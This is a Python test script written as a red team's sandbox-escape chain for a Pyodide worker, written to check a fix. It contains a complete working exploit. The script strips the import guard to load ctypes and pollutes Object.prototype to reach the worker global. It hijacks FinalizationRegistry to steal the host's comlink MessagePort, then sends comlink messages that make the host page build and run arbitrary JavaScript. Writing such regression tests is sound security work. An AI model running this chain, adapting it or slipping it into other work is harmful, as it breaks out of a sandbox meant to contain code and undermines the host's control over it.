# The red team's escape chain (issue 16), kept as model code. It runs as two notebook cells (split
# at the "# %%" line) in the sandbox; `CANARY` (the canary server's origin) and `PAGE_JS` (the JavaScript it tries to run on
# the page, see chain-page.js) are defined by the test before this text. Every step prints a line:
#   STAGE <what>    the step worked (it reached something it must not reach)
#   BLOCKED <what>  the step was refused
# and "ESCAPED <what>" once the page did what the worker asked.
#
# The chain, as found on the unfixed code:
#  1. Remove the Python import guard, import ctypes.
#  2. Python's `js` facade exposes `Object`: plant an accessor for a global name the hardening
#     deleted (`navigator`) on the worker's Object.prototype; call the Emscripten HTML5 function
#     emscripten_vibrate through ctypes: its JS reads `navigator` as a free variable, the lookup walks the global's
#     prototype chain and runs the accessor with `this` = the worker global.
#  3. From the global: FinalizationRegistry.prototype.register captures its arguments; one tool call
#     makes comlink register a proxy for the host port, handing over that MessagePort.
#  4. comlink messages on that port are evaluated by the page: SET ['__proto__', k] writes the
#     page's Object.prototype; CONSTRUCT toolCall.constructor is the page's Function (blocked by a
#     page CSP, not in a host page without one) and APPLY runs it.
import sys, asyncio

try:
    import js
    from pyodide.ffi import create_proxy, to_js
except Exception as e:
    print("BLOCKED no js module:", type(e).__name__, e)
    raise SystemExit

def jsobj(d):
    return to_js(d, dict_converter=js.Object.fromEntries)

reached = {}
p = port = None  # read by cell 2

# --- 1. the import guard removed, ctypes imported ------------------------------------------
sys.meta_path[:] = [f for f in sys.meta_path if "Guard" not in type(f).__name__]
lib = None
try:
    import ctypes
    # PyDLL: the call keeps the GIL, so the accessor (a Python function) can run inside it.
    lib = ctypes.PyDLL(None)
    print("STAGE ctypes imported")
except BaseException as e:
    print("BLOCKED ctypes:", type(e).__name__, str(e)[:160])

# --- 2. accessor on Object.prototype, run by emscripten_vibrate's free-variable read -----------
def _getter(this, *args):
    if this is not None and "global" not in reached:
        reached["global"] = this
    return js.Object.new()  # `navigator.vibrate` is then falsy: the HTML5 function returns quietly

getter = create_proxy(_getter, capture_this=True)
planted = False
try:
    js.Object.defineProperty(js.Object.prototype, "navigator", jsobj({"get": getter, "configurable": True}))
    planted = True
    print("STAGE accessor planted on Object.prototype.navigator")
except Exception as e:
    print("BLOCKED accessor:", type(e).__name__, str(e)[:120])
if lib is not None:
    try:
        r = lib.emscripten_vibrate(1)
        print("STAGE emscripten_vibrate returned", r)
    except BaseException as e:
        print("BLOCKED emscripten_vibrate:", type(e).__name__, str(e)[:160])
if planted:
    try:
        delattr(js.Object.prototype, "navigator")
    except Exception:
        pass

g = reached.get("global")
if g is None:
    print("BLOCKED no worker global")
else:
    print("STAGE worker global reached:", js.Object.prototype.toString.call(g))

# --- 3. FinalizationRegistry.prototype.register -> the host's MessagePort ---------------------
# comlink calls proxyFinalizers.register(proxy, port, proxy) for every proxy it makes (one per
# property access on the host object). With register = Array.prototype.push that stores the port
# at index "1" of the registry, which has no own "1": the write reaches a setter on
# Object.prototype.
if g is not None:
    # The setter must not call Python (Pyodide's own calls into Python write index "1" of arrays
    # too): it is Array.prototype.push bound to a sink whose slots exist already.
    sink = jsobj({str(i): 0 for i in range(64)})
    sink.length = 0
    setter = g.Array.prototype.push.bind(sink)
    FR = g.FinalizationRegistry
    original = FR.prototype.register
    try:
        FR.prototype.register = g.Array.prototype.push
        js.Object.defineProperty(js.Object.prototype, "1", jsobj({"set": setter, "configurable": True}))
        print("STAGE FinalizationRegistry.prototype.register = Array.prototype.push, setter on Object.prototype[1]")
    except Exception as e:
        print("BLOCKED register:", type(e).__name__, str(e)[:120])
    host = sys.modules.get("_l0_host") or __import__("_l0_host")
    try:
        p = host.call_tool_async("l0_chain_probe", "{}")  # one tool call: comlink makes a proxy
    except BaseException as e:
        p = None
        print("tool call failed:", type(e).__name__, str(e)[:120])
    try:
        delattr(js.Object.prototype, "1")
    except Exception:
        pass
    try:
        FR.prototype.register = original
    except Exception:
        pass
    for i in range(int(sink.length)):
        v = getattr(sink, str(i))
        if js.Object.prototype.toString.call(v) == "[object MessagePort]":
            port = v
            break
    if port is None:
        print("BLOCKED no MessagePort captured")
    else:
        print("STAGE host MessagePort captured")

# %% cell 2 (awaits: a cell with top-level await runs as a coroutine, and Python called back from
# an Emscripten import inside one is a fatal error, so the synchronous steps above run in cell 1)
import asyncio, js
from pyodide.ffi import create_proxy, to_js
def jsobj(d):
    return to_js(d, dict_converter=js.Object.fromEntries)
if p is not None:
    try:
        await asyncio.wait_for(p, 3)
    except BaseException:
        pass

# --- 4. comlink messages the page evaluates ------------------------------------------------
if port is not None:
    replies = {}
    def _on_message(ev):
        d = ev.data
        try:
            i = d.id
        except Exception:
            return
        if isinstance(i, str) and i.startswith("l0-chain-"):
            replies[i] = d
    listener = create_proxy(_on_message)
    port.addEventListener("message", listener)

    async def ask(port_, msg, key, t=3.0):
        port_.postMessage(jsobj(msg))
        for _ in range(int(t / 0.05)):
            if key in replies:
                return replies[key]
            await asyncio.sleep(0.05)
        return None

    r = await ask(port, {"id": "l0-chain-set", "type": "SET", "path": ["__proto__", "l0ChainPwned"], "value": {"type": "RAW", "value": "pwned"}}, "l0-chain-set")
    print("STAGE page answered SET:", None if r is None else r.type)
    r = await ask(port, {"id": "l0-chain-ctor", "type": "CONSTRUCT", "path": ["toolCall", "constructor"], "argumentList": [{"type": "RAW", "value": PAGE_JS}]}, "l0-chain-ctor")
    if r is None:
        print("BLOCKED page did not answer CONSTRUCT")
    elif r.type == "HANDLER" and r.name == "proxy":
        print("STAGE page Function constructed")
        fn_port = r.value
        fn_port.addEventListener("message", listener)
        fn_port.start()
        r2 = await ask(fn_port, {"id": "l0-chain-apply", "type": "APPLY", "path": [], "argumentList": []}, "l0-chain-apply")
        if r2 is not None:
            v = r2.value
            try:
                v = js.JSON.stringify(v) if hasattr(js, "JSON") else str(v)
            except Exception:
                v = str(v)
            print("ESCAPED page ran our JavaScript:", str(v)[:400])
    else:
        try:
            print("BLOCKED page Function:", str(r.value.value.message)[:160])
        except Exception:
            print("BLOCKED page Function:", r.type)
